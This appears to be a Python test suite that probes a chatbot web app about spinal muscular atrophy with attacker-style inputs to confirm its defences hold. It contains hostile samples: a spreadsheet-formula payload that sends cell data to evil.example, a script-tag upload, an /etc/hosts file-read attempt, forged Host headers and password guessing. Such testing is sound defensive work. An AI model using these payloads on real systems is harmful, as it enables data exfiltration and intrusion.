"""The attack suite: every way into a real `python app.py`, tried as an attacker and as a
careless staff member would (issue 23). Each test states what must hold and checks it
against the running server, its responses and its log."""

from __future__ import annotations

import http.client
import json
import time
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import urlsplit

import pytest

from tests import app_server

pytestmark = pytest.mark.app

ASK = json.dumps({"question": "What is SMA type 2?"}).encode()
GRADIO_ASK = json.dumps({"data": ["What is SMA type 2?", "[]"]}).encode()


@pytest.fixture(scope="module")
def server(built, tmp_path_factory):
    srv = app_server.start(built, tmp_path_factory.mktemp("attacks"))
    yield srv
    srv.stop()


@pytest.fixture(scope="module")
def strict(built, tmp_path_factory):
    """8 questions a minute per client (a burst of 2), behind a proxy at 127.0.0.1."""
    env = {"SMABOT_RATE_PER_MINUTE": "8", "SMABOT_TRUSTED_PROXIES": "127.0.0.1"}
    srv = app_server.start(built, tmp_path_factory.mktemp("strict"), env_extra=env)
    yield srv
    srv.stop()


def log_of(srv, since: int = 0) -> str:
    """The server's log from character `since` on (`len(log_of(srv))` marks a start)."""
    return (srv.config.corpus_dir.parent / "app.log").read_text(errors="replace")[since:]


def request(
    srv,
    path: str,
    body: bytes | None = None,
    headers: dict[str, str] | None = None,
    *,
    method: str | None = None,
    source: str = "127.0.0.1",
) -> tuple[int, dict[str, str], bytes]:
    """(status, headers, body) of one request from `source` (any 127/8 address)."""
    url = urlsplit(srv.url)
    conn = http.client.HTTPConnection(
        url.hostname, url.port, timeout=60, source_address=(source, 0)
    )
    try:
        sent = {"Content-Type": "application/json", **(headers or {})}
        if body is None:
            sent.pop("Content-Type")
        conn.request(method or ("POST" if body is not None else "GET"), path, body, sent)
        r = conn.getresponse()
        return r.status, {k.lower(): v for k, v in r.getheaders()}, r.read()
    finally:
        conn.close()


# --- 1. one gate for every way in -------------------------------------------------------


@pytest.mark.parametrize("path", ["/gradio_api/call/ask", "/gradio_api/call/feedback"])
def test_the_gradio_api_is_rated_per_client_like_the_json_api(strict, path):
    client = {"X-Forwarded-For": f"10.1.0.{len(path)}"}  # a fresh client per case
    codes = [request(strict, path, GRADIO_ASK, client)[0] for _ in range(3)]
    assert codes == [200, 200, 429]
    status, _, body = request(strict, "/api/ask", ASK, client)  # one bucket for all ways in
    assert status == 429 and b"at most 8 a minute" in body


def test_rotating_x_forwarded_for_does_not_escape_the_rate(strict):
    # 127.0.0.2 is not a trusted proxy: its X-Forwarded-For is ignored
    codes = [
        request(strict, "/api/ask", ASK, {"X-Forwarded-For": f"10.2.0.{i}"}, source="127.0.0.2")[0]
        for i in range(4)
    ]
    assert codes == [200, 200, 429, 429]


def test_a_trusted_proxy_names_each_client(strict):
    # through the trusted proxy (127.0.0.1), each forwarded client has its own rate
    codes = [
        request(strict, "/api/ask", ASK, {"X-Forwarded-For": f"10.3.0.{i}"})[0] for i in range(6)
    ]
    assert codes == [200] * 6


def test_the_gradio_route_that_would_skip_the_queue_is_closed(server):
    status, _, body = request(server, "/gradio_api/run/ask", GRADIO_ASK)
    assert status == 404 and b"queue" in body


def test_gradio_waits_in_one_bounded_queue(bot, tmp_path):
    from bot.app import create_app
    from bot.app.api import MAX_WAITING
    from bot.app.chat import CONCURRENCY
    from bot.app.feedback import FeedbackStore
    from bot.app.state import AppState

    state = AppState(bot.config, bot, FeedbackStore(tmp_path / "feedback.sqlite3"))
    _, demo = create_app(state)
    assert demo._queue.max_size == MAX_WAITING and demo.api_open is False
    limits = {fn.api_name: fn.concurrency_limit for fn in demo.fns.values()}
    assert limits["ask"] == limits["feedback"] == CONCURRENCY
    assert limits["staff_rebuild"] == 1


def test_abandoned_gradio_calls_cannot_stall_a_family(strict):
    """200 Gradio questions from 200 clients that never read their answers: each is
    accepted or refused at once, and a family's question meanwhile is answered fast."""

    def abandon(i: int) -> int:
        hdr = {"X-Forwarded-For": f"10.4.{i // 250}.{i % 250}"}
        return request(strict, "/gradio_api/call/ask", GRADIO_ASK, hdr)[0]

    with ThreadPoolExecutor(50) as pool:
        flood = pool.map(abandon, range(200))
        start = time.monotonic()
        status, _, _ = request(strict, "/api/ask", ASK, {"X-Forwarded-For": "10.5.0.1"})
        family = time.monotonic() - start
        codes = list(flood)
    assert status == 200 and family < 2.0, family
    assert set(codes) <= {200, 503}, set(codes)


def test_a_flood_from_many_addresses_leaves_families_a_place(server):
    """40 addresses, each on 5 connections at once, asking as fast as they can: more than
    the seats and the line hold. Families asking for the first time still get their
    answers, because the line goes by pace (bot/app/room.py), and the flood's refusals
    come after the refusal delay."""
    from bot.app.api import MAX_WAITING, SEATS
    from bot.app.edge import REFUSAL_DELAY

    stop = time.monotonic() + 10

    def flood(i: int) -> list[tuple[int, float]]:
        seen = []
        while time.monotonic() < stop:
            t0 = time.monotonic()
            status = request(server, "/api/ask", ASK, source=f"127.0.{i // 5 + 1}.1")[0]
            seen.append((status, time.monotonic() - t0))
        return seen

    with ThreadPoolExecutor(200) as pool:
        flooders = [pool.submit(flood, i) for i in range(200)]
        time.sleep(4)  # the flood's pace is known by now
        families = [request(server, "/api/ask", ASK, source=f"127.0.200.{k}")[0] for k in (1, 2, 3)]
        seen = [x for f in flooders for x in f.result()]
    busy = [t for status, t in seen if status == 503]
    assert families == [200, 200, 200], families
    assert len(busy) > 0 and min(busy) >= REFUSAL_DELAY, (len(seen), len(busy))
    assert SEATS + MAX_WAITING < 200  # the flood is more than the room holds


# --- 2. nothing secret at rest in the browser or the log --------------------------------


def test_no_run_history_is_kept_in_the_browser(server):
    status, _, _ = request(server, "/gradio_api/runs")
    assert status == 404
    status, _, body = request(server, "/config")
    assert status == 200 and json.loads(body)["run_history"] is False
    assert "runs" not in json.loads(body).get("footer_links", [])


def test_the_password_is_never_logged_when_a_staff_call_goes_wrong(server):
    secret = "pw-marker-7f3e-never-log"
    start = len(log_of(server))
    for api, data in [
        ("staff_test", [secret]),  # too few inputs
        ("staff_open", [secret]),  # wrong password
        ("staff_add_document", [secret, None]),
        ("staff_feedback_csv", [secret, "extra", "inputs"]),
        ("staff_test", [{"not": "text"}, secret, 7]),
    ]:
        status, _, body = request(
            server, f"/gradio_api/call/{api}", json.dumps({"data": data}).encode()
        )
        assert status == 200, (api, body)
        event = json.loads(body)["event_id"]
        request(server, f"/gradio_api/call/{api}/{event}")  # read it to the end
    time.sleep(0.5)
    log = log_of(server, start)
    assert secret not in log and "Traceback" not in log


@pytest.mark.parametrize(
    "path, body, content_type",
    [
        ("/api/ask", b"question=What is SMA MARKER \xff\xfe", None),
        ("/api/ask", b'{"question": "What is SMA MARKER \xff\xfe"}', "application/json"),
        ("/api/ask", b'{"question": "What is SMA MARKER", ', "application/json"),
        ("/api/ask", b'["What is SMA MARKER"]', "application/json"),
        ("/chat/ask", b"What is SMA MARKER \xff", "text/plain"),
        ("/chat/feedback", b'{"vote": "MARKER", "question": 5}', "application/json"),
        ("/chat/comment", b'{"id": "x", "token": "t", "comment": "MARKER \xff"}', None),
        ("/gradio_api/call/ask", b"MARKER \xff\xfe", None),
        ("/gradio_api/call/ask", b'{"data": [["MARKER"], "[]"]}', "application/json"),
        (
            "/gradio_api/call/ask",
            b'{"data": ["What is SMA MARKER", "[MARKER"]}',
            "application/json",
        ),
        ("/gradio_api/queue/join", b'{"data": ["MARKER \xff"], "fn_index": 0}', None),
        ("/gradio_api/upload", b"MARKER \xff", "multipart/form-data; boundary=x"),
    ],
)
def test_a_message_is_never_logged_on_any_error_path(server, path, body, content_type):
    marker = f"msg-marker-{abs(hash((path, body))) % 10**8}"
    body = body.replace(b"MARKER", marker.encode())
    headers = {"Content-Type": content_type} if content_type else {"Content-Type": ""}
    start = len(log_of(server))
    status, _, reply = request(server, path, body, headers)
    if status == 200 and path.startswith("/gradio_api/call/"):
        event = json.loads(reply)["event_id"]
        request(server, f"{path}/{event}")
    assert status < 500, (status, reply[:300])
    time.sleep(0.3)
    log = log_of(server, start)
    assert marker not in log and "Traceback" not in log, log[-3000:]


# --- 3. fail closed on metadata ---------------------------------------------------------

SMA_TEXT = b"Spinal muscular atrophy is a genetic disease that weakens the muscles of children.\n"


def _break_sources(corpus_dir, how: str) -> str:
    """Spoil sources.json as a careless edit would; returns its old text."""
    path = corpus_dir / "sources.json"
    old = path.read_text(encoding="utf-8")
    if how == "trailing comma":
        new = old.replace('"kind": "clinic_page",', '"kind": "clinic_page",,', 1)
    else:  # a kind that is not one of the kinds
        new = old.replace('"kind": "clinic_page"', '"kind": "clinic-page"', 1)
    assert new != old
    path.write_text(new, encoding="utf-8")
    return old


@pytest.mark.parametrize(
    "how, named",
    [("trailing comma", "line 5, column"), ("unknown kind", "line 5, entry 'emcell")],
)
def test_bad_metadata_stops_the_rebuild_and_the_previous_index_serves(
    scratch_built, embedder, how, named
):
    from bot.bot import Bot
    from bot.build import build_index
    from bot.errors import ConfigError, IndexMismatch
    from bot.index.versions import current_version

    before = current_version(scratch_built.index_dir).name
    _break_sources(scratch_built.corpus_dir, how)
    with pytest.raises(ConfigError) as err:
        build_index(scratch_built, embedder=embedder, progress=False, echo=lambda m: None)
    message = str(err.value)
    assert "sources.json" in message and named in message, message
    if how == "unknown kind":
        assert "field 'kind' = 'clinic-page'" in message and "clinic_page" in message
    assert current_version(scratch_built.index_dir).name == before
    said: list[str] = []  # a restart: the index is stale, its rebuild fails, it still serves
    bot = Bot.load_or_build(scratch_built, rebuild_on=(IndexMismatch,), echo=said.append)
    assert bot.version == before and "answering from the index built before" in said[-1]
    assert bot.data.documents["emcell-sma-stem-cell-treatment"].meta.kind == "clinic_page"


def test_a_staff_rebuild_on_bad_metadata_keeps_the_clinic_warnings(server):
    from gradio_client import Client

    old = _break_sources(server.config.corpus_dir, "trailing comma")
    try:
        said = Client(server.url, verbose=False).predict(
            app_server.PASSWORD, api_name="/staff_rebuild"
        )[0]
    finally:
        (server.config.corpus_dir / "sources.json").write_text(old, encoding="utf-8")
    assert "Not rebuilt" in said and "sources.json" in said and "line 5" in said
    status, _, body = request(
        server,
        "/api/ask",
        json.dumps(
            {"question": "What does the EmCell clinic claim about stem cell treatment?"}
        ).encode(),
    )
    reply = json.loads(body)
    assert status == 200 and "promot" in reply["text"].lower() + json.dumps(reply["sources"])


def test_adding_a_document_keeps_every_other_entry_and_field(scratch):
    from bot.ingest.corpus import add_document
    from bot.ingest.sources import SourceMeta

    path = scratch.corpus_dir / "sources.json"
    raw = json.loads(path.read_text(encoding="utf-8"))
    raw["emcell-sma-stem-cell-treatment"]["reviewed"] = "last spring"  # fails its check
    raw["emcell-sma-stem-cell-treatment"]["x-owner"] = "Dr Lee"  # a field we don't know
    raw["ghost-page"] = {"title": "A page not yet uploaded", "kind": "news"}
    raw["odd entry!"] = 7
    path.write_text(json.dumps(raw, indent=2), encoding="utf-8")
    add_document(scratch.corpus_dir, "new-leaflet.txt", SMA_TEXT, SourceMeta(title="New"))
    after = json.loads(path.read_text(encoding="utf-8"))
    assert {k: v for k, v in after.items() if k != "new-leaflet"} == raw
    assert after["new-leaflet"] == {
        "title": "New",
        "publisher": "unknown publisher",
        "kind": "other",
    }


def test_adding_a_document_to_unreadable_metadata_changes_nothing(scratch):
    from bot.errors import ConfigError
    from bot.ingest.corpus import add_document
    from bot.ingest.sources import SourceMeta

    old = _break_sources(scratch.corpus_dir, "trailing comma")
    broken = (scratch.corpus_dir / "sources.json").read_text(encoding="utf-8")
    with pytest.raises(ConfigError, match="line 5"):
        add_document(scratch.corpus_dir, "new-leaflet.txt", SMA_TEXT, SourceMeta(title="New"))
    assert (scratch.corpus_dir / "sources.json").read_text(encoding="utf-8") == broken != old
    assert not (scratch.corpus_dir / "new-leaflet.txt").exists()


def test_a_changed_kind_of_source_is_said_by_the_rebuild(scratch_built, embedder):
    from bot.build import build_index

    path = scratch_built.corpus_dir / "sources.json"
    raw = json.loads(path.read_text(encoding="utf-8"))
    raw["emcell-sma-stem-cell-treatment"]["kind"] = "news"
    path.write_text(json.dumps(raw, indent=2), encoding="utf-8")
    summary = build_index(scratch_built, embedder=embedder, progress=False, echo=lambda m: None)
    said = "\n".join(summary.changes)
    assert (
        'emcell-sma-stem-cell-treatment: kind of source changed from "clinic\'s own page" '
        "to 'news article'" in said
    ), said


# --- 4. uploads only for staff ----------------------------------------------------------


def _multipart(name: str, data: bytes) -> tuple[bytes, str]:
    boundary = "smabot-test-boundary"
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n'
            f"Content-Type: text/plain\r\n\r\n"
        ).encode()
        + data
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return body, f"multipart/form-data; boundary={boundary}"


def _upload(srv, name: str, data: bytes, password: str | None, source: str = "127.0.0.1"):
    body, kind = _multipart(name, data)
    headers = {"Content-Type": kind}
    if password is not None:
        headers["X-Staff-Password"] = password
    return request(srv, "/gradio_api/upload", body, headers, source=source)


def _call(srv, api: str, data: list, source: str = "127.0.0.1") -> str:
    """A Gradio call to its end: the text of its event stream."""
    status, _, body = request(
        srv, f"/gradio_api/call/{api}", json.dumps({"data": data}).encode(), source=source
    )
    assert status == 200, body
    event = json.loads(body)["event_id"]
    return request(srv, f"/gradio_api/call/{api}/{event}", source=source)[2].decode()


def test_uploads_need_the_staff_password(server):
    from bot.app.edge import REFUSAL_DELAY

    for password in (None, "", "guess"):
        t0 = time.monotonic()
        status, _, body = _upload(server, "a.txt", SMA_TEXT, password, source="127.0.0.4")
        assert status == 403 and b"staff password" in body, (password, body)
        assert time.monotonic() - t0 >= REFUSAL_DELAY  # refused POSTs are answered late
    status, _, body = _upload(server, "a.txt", SMA_TEXT, app_server.PASSWORD)
    assert status == 200 and json.loads(body)[0].endswith("a.txt")


def test_an_upload_over_the_limit_is_refused(server):
    status, _, body = _upload(server, "big.txt", b"x" * (11 * 2**20), app_server.PASSWORD)
    assert status == 413, body[:200]


def test_gradio_serves_no_file_back(server):
    status, _, body = _upload(
        server, "mine.html", b"<script>alert(1)</script>", app_server.PASSWORD
    )
    path = json.loads(body)[0]
    for url in (
        f"/gradio_api/file={path}",
        f"/gradio_api/file/{path}",
        "/gradio_api/file=/etc/hosts",
    ):
        status, _, served = request(server, url)
        assert status == 404 and b"alert" not in served and b"localhost" not in served, url


def test_an_added_documents_upload_is_deleted(server):
    from pathlib import Path

    text = SMA_TEXT + b"Physiotherapy keeps joints supple in children with SMA.\n"
    _, _, body = _upload(server, "physio-leaflet.txt", text, app_server.PASSWORD)
    path = json.loads(body)[0]
    assert Path(path).exists()
    file = {"path": path, "meta": {"_type": "gradio.FileData"}}
    said = _call(
        server,
        "staff_add_document",
        [app_server.PASSWORD, file, "Physio leaflet", "SMA UK", "patient_organisation", ""],
    )
    assert "Added" in said and "physio-leaflet" in said, said
    assert not Path(path).exists()
    assert (server.config.corpus_dir / "physio-leaflet.txt").read_bytes() == text


# --- 5. CSV export ----------------------------------------------------------------------


def test_the_csv_export_neutralises_formulas_and_leaves_no_file(server):
    import base64
    import csv
    import io
    import re
    import tempfile
    from pathlib import Path

    marker = f"csv-marker-{time.time_ns()}"
    comments = [
        f'=HYPERLINK("http://evil.example/?"&A1,"{marker}")',
        f"+1+1 {marker}",
        f"-2+3 {marker}",
        f"@SUM(1) {marker}",
        f"\t=1+1 {marker}",
        f"\r=1+1 {marker}",
    ]
    for comment in comments:
        vote = {"vote": "down", "question": "What is SMA type 2?", "history": []}
        status, _, body = request(server, "/chat/feedback", json.dumps(vote).encode())
        assert status == 200, body
        row = json.loads(body)
        note = {"id": row["id"], "token": row["token"], "comment": comment}
        assert request(server, "/chat/comment", json.dumps(note).encode())[0] == 200
    said = _call(server, "staff_feedback_csv", [""])
    assert "password" in said and marker not in said  # behind the password
    said = _call(server, "staff_feedback_csv", [app_server.PASSWORD])
    link = json.loads(said.split("data: ", 1)[1].splitlines()[0])[0]
    text = base64.b64decode(re.search(r"base64,([^\"]+)", link).group(1)).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    got = {r["comment"] for r in rows if marker in (r["comment"] or "")}
    assert got == {"'" + c.lstrip() for c in comments}, got  # comments are stored stripped
    from bot.app.feedback import spreadsheet_safe

    assert [spreadsheet_safe(c) for c in ("\t=1", "\r=1", "SMA", 7)] == ["'\t=1", "'\r=1", "SMA", 7]
    places = [Path(tempfile.gettempdir()), server.config.corpus_dir.parent]
    left = [
        p
        for place in places
        for p in place.rglob("*.csv")
        if p.is_file() and marker.encode() in p.read_bytes()
    ]
    assert left == []


# --- 6. headers, hosts, monitoring, password guessing ----------------------------------


@pytest.mark.parametrize("path", ["/", "/staff", "/config", "/api", "/gradio_api/info"])
def test_every_reply_refuses_framing_and_sniffing(server, path):
    status, headers, _ = request(server, path)
    assert status == 200
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "DENY"
    assert "frame-ancestors 'none'" in headers["content-security-policy"]


@pytest.mark.parametrize("path", ["/config", "/logout", "/gradio_api/info", "/"])
def test_a_forged_host_is_not_echoed(server, path):
    status, headers, body = request(server, path, headers={"Host": "evil.example"})
    assert status == 400
    assert b"evil.example" not in body and "evil" not in headers.get("location", "")
    status, headers, body = request(server, path, headers={"X-Forwarded-Host": "evil.example"})
    assert b"evil.example" not in body and "evil" not in headers.get("location", "")


def test_monitoring_is_off(server):
    for path in ("/monitoring", "/monitoring/summary", "/gradio_api/monitoring/summary"):
        status, _, body = request(server, path)
        assert status in (403, 404) and b"avg_event" not in body, (path, body)


def test_password_guesses_are_slowed_per_client(server):
    from bot.app.state import FREE_ATTEMPTS

    guesser = "127.0.0.5"
    said = [
        _call(server, "staff_open", [f"guess-{i}"], source=guesser)
        for i in range(FREE_ATTEMPTS + 3)
    ]
    assert all("Wrong or missing staff password" in s for s in said[:FREE_ATTEMPTS])
    assert "Too many wrong passwords" in said[-1]
    # even the right password must wait now, from there; another client is not held up
    assert "Too many wrong passwords" in _call(
        server, "staff_open", [app_server.PASSWORD], source=guesser
    )
    assert "error" not in _call(server, "staff_open", [app_server.PASSWORD], source="127.0.0.6")
    status, _, _ = _upload(server, "a.txt", SMA_TEXT, app_server.PASSWORD, source=guesser)
    assert status == 403


# --- 7. service through change ----------------------------------------------------------


def _children_nice(pid: int) -> list[int]:
    """The nice values of `pid`'s child processes now."""
    from pathlib import Path

    found = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == pid:  # ppid
            found.append(int(fields[16]))  # nice
    return found


def test_families_stay_fast_while_staff_rebuild(built, tmp_path):
    """The rebuild runs in a child process at lower priority on one thread; meanwhile a
    family's question is answered well within a second."""
    import statistics
    import threading

    # one address asks ten times a second: no rate limit here
    srv = app_server.start(built, tmp_path / "srv", env_extra={"SMABOT_RATE_PER_MINUTE": "0"})
    try:
        corpus = srv.config.corpus_dir
        for k in range(1):  # new text to embed: copies of the corpus, each line changed
            for doc in sorted(corpus.glob("*.txt"))[:2]:
                lines = doc.read_text(encoding="utf-8").splitlines()
                changed = "\n".join(
                    f"{line} (edition {k}, part {i})" for i, line in enumerate(lines)
                )
                (corpus / f"{doc.stem}-edition-{k}.txt").write_text(changed, encoding="utf-8")
        said: list[str] = []
        rebuild = threading.Thread(
            target=lambda: said.append(_call(srv, "staff_rebuild", [app_server.PASSWORD]))
        )
        rebuild.start()
        latencies, nice = [], []
        while rebuild.is_alive():
            nice += _children_nice(srv.process.pid)
            t0 = time.monotonic()
            status, _, _ = request(srv, "/api/ask", ASK)
            latencies.append(time.monotonic() - t0)
            assert status == 200
            time.sleep(0.1)
        rebuild.join()
    finally:
        srv.stop()
    p95 = statistics.quantiles(latencies, n=20)[-1] if len(latencies) > 1 else latencies[0]
    print(f"rebuild: {len(latencies)} questions, p95 {p95:.3f} s, max {max(latencies):.3f} s")
    assert "The index was rebuilt" in said[0], said[0][-500:]
    assert nice and max(nice) >= 10, nice  # the build ran in a niced child
    assert len(latencies) >= 10 and p95 < 1.0, (len(latencies), p95, max(latencies))


def test_a_damaged_index_at_start_up_serves_the_previous_version_at_once(
    scratch_built, embedder, tmp_path
):
    from bot.build import build_index
    from bot.index.versions import current_version

    first = current_version(scratch_built.index_dir).name
    doc = scratch_built.corpus_dir / "zolgensma-is-it-a-cure.txt"
    doc.write_text(doc.read_text(encoding="utf-8") + "\nA closing line.\n", encoding="utf-8")
    build_index(scratch_built, embedder=embedder, progress=False, echo=lambda m: None)
    damaged = current_version(scratch_built.index_dir)
    assert damaged.name != first and (scratch_built.index_dir / first).is_dir()
    (damaged / "chunk_vectors.npy").write_bytes(b"\x00garbage")

    t0 = time.monotonic()
    srv = app_server.start(scratch_built, tmp_path / "srv")
    try:
        status, _, body = request(srv, "/api/ask", ASK)
        ready = time.monotonic() - t0
        assert status == 200 and json.loads(body)["index_version"] == first
        # 7.3-9.8 s measured here (target 10 s); the margin is for a loaded test machine
        assert ready < 20, ready
        said = _call(srv, "staff_open", [app_server.PASSWORD])
        assert "rebuilt in the background" in said and "damaged" in said, said
        deadline = time.monotonic() + 180
        while time.monotonic() < deadline:  # the rebuild lands; families move to it
            version = json.loads(request(srv, "/api/ask", ASK)[2])["index_version"]
            if version not in (first, damaged.name):
                break
            time.sleep(1)
        assert version not in (first, damaged.name)
        assert "background" not in _call(srv, "staff_open", [app_server.PASSWORD])
    finally:
        srv.stop()
    print(f"start-up on a damaged index: answering from {first} after {ready:.1f} s")


def test_with_the_staff_view_off_no_upload_is_taken(bot, tmp_path):
    from fastapi import FastAPI
    from fastapi.testclient import TestClient

    from bot.app.api import Gate
    from bot.app.edge import add_edge
    from bot.app.feedback import FeedbackStore
    from bot.app.state import AppState

    state = AppState(bot.config, bot, FeedbackStore(tmp_path / "feedback.sqlite3"))  # no password
    app = FastAPI()
    add_edge(app, state, Gate(), "testserver")
    body, kind = _multipart("a.txt", SMA_TEXT)
    for password in ("", "anything"):
        reply = TestClient(app).post(
            "/gradio_api/upload",
            content=body,
            headers={"Content-Type": kind, "X-Staff-Password": password},
        )
        assert reply.status_code == 403 and "staff view is off" in reply.json()["error"]
